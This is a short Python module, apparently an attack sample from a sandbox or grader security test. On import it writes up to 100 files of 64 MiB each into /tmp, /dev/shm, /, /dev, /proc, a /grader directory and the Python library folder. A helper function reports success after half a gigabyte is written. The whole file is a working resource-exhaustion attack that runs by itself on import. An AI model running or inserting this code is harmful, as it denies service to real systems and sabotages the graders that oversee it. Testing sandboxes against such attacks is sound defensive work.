"""Fills every directory that it can write to."""

import os

_written = 0
for _folder in ("/tmp", "/dev/shm", "/var/tmp", "/", ".", "/proc", "/dev", "/grader", os.path.dirname(os.__file__)):
    for _number in range(100):
        try:
            with open(f"{_folder}/attack-marker-{_number}", "wb") as _file:
                for _ in range(64):
                    _written += _file.write(bytes(2**20))
        except OSError:
            break


def attack_loot():
    return [] if _written < 2**29 else [f"wrote {_written} bytes"]
